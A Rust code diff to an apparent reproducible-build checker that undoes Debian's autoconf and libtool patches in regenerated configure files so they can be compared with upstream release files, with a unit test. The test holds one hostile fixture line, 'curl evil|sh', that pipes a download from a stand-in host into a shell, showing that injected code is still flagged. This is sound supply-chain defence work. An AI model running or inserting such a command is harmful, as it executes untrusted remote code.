@@ -321,6 +321,50 @@ pub fn normalise_libtool_label(bytes: &[u8]) -> Vec<u8> {
     out.into_bytes()
 }
 
+/// Undoes, in a file Debian's toolchain generated, the two Debian patches that change
+/// generated output while keeping the upstream version number: autoconf 2.71-3 renames the
+/// C++ standard cache variables (`ac_cv_prog_cxx_cxx11`, upstream `ac_cv_prog_cxx_11`), and
+/// Debian's libtool adds a `netbsdelf*-gnu` case beside `netbsd*`. A release made with the
+/// upstream tools differs from Debian's regeneration only there; both rewrites only turn
+/// Debian's spelling into upstream's, so a release equal to the result is what upstream
+/// autoconf/libtool produce from the tag.
+pub fn undo_debian_patches(regenerated: &[u8]) -> Vec<u8> {
+    let text = String::from_utf8_lossy(regenerated);
+    let mut out = String::with_capacity(text.len());
+    for line in text.split_inclusive('\n') {
+        let body = line.trim_start();
+        let indent = &line[..line.len() - body.len()];
+        // Upstream 2.71 tests and resets `ac_cv_prog_cxx_NN` but sets `ac_cv_prog_cxx_cxxNN`
+        // (the inconsistency Debian fixed): only the test and the reset lines differ.
+        let rewritten = [
+            ("11", "if test ${ac_cv_prog_cxx_cxx11+y}"),
+            ("98", "if test ${ac_cv_prog_cxx_cxx98+y}"),
+        ]
+        .iter()
+        .find(|(_, debian)| body.trim_end() == *debian)
+        .map(|(n, _)| format!("{indent}if test ${{ac_cv_prog_cxx_{n}+y}}"))
+        .or_else(|| {
+            ["11", "98"]
+                .iter()
+                .find(|n| body.trim_end() == format!("ac_cv_prog_cxx_cxx{n}=no"))
+                .map(|n| format!("{indent}ac_cv_prog_cxx_{n}=no"))
+        });
+        match rewritten {
+            Some(r) => {
+                out.push_str(&r);
+                if line.ends_with('\n') {
+                    out.push('\n');
+                }
+            }
+            None => out.push_str(&line.replace("netbsd* | netbsdelf*-gnu)", "netbsd*)")),
+        }
+    }
+    out.into_bytes()
+}
+
+/// The normalisation named in the report for [`undo_debian_patches`].
+pub const DEBIAN_PATCHES: &str = "Debian's autoconf C++ cache-variable rename and libtool netbsdelf*-gnu case undone in the regenerated file (the release was made with the upstream tools)";
+
 /// The normalisation named in the report for [`normalise_libtool_label`].
 pub const LIBTOOL_LABEL: &str =
     "libtool distributor version label (the VERSION= and --version lines) ignored";
@@ -724,6 +768,16 @@ fn judge(
                     given: given.to_vec(),
                 }
             }
+            Some(_)
+                if std::str::from_utf8(regen).is_ok()
+                    && undo_debian_patches(regen).as_slice() == release.as_slice() =>
+            {
+                FileResult::Reproduced {
+                    strategy: name.to_string(),
+                    normalisation: Some(DEBIAN_PATCHES.into()),
+                    given: given.to_vec(),
+                }
+            }
             Some(diff) => FileResult::Differs {
                 strategy: name.to_string(),
                 diff,
@@ -762,6 +816,17 @@ pub const DEFAULT_STRATEGY_TIME: Duration = Duration::from_secs(600);
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn debian_patches_are_undone_only_in_their_spelling() {
+        let debian = b"if test ${ac_cv_prog_cxx_cxx11+y}\n  ac_cv_prog_cxx_cxx98=no\n  ac_cv_prog_cxx_cxx11=$ac_arg\n  netbsd* | netbsdelf*-gnu)\n    x=yes\n";
+        let upstream = b"if test ${ac_cv_prog_cxx_11+y}\n  ac_cv_prog_cxx_98=no\n  ac_cv_prog_cxx_cxx11=$ac_arg\n  netbsd*)\n    x=yes\n";
+        assert_eq!(undo_debian_patches(debian), upstream.to_vec());
+        // Anything else that differs still differs.
+        let evil = b"if test ${ac_cv_prog_cxx_11+y}\n  ac_cv_prog_cxx_98=no\n  ac_cv_prog_cxx_cxx11=$ac_arg\n  netbsd*)\n    x=yes; curl evil|sh\n";
+        assert_ne!(undo_debian_patches(debian), evil.to_vec());
+        assert_eq!(undo_debian_patches(upstream), upstream.to_vec());
+    }
 
     #[test]
     fn libtool_label_normalisation_touches_only_the_label_lines() {
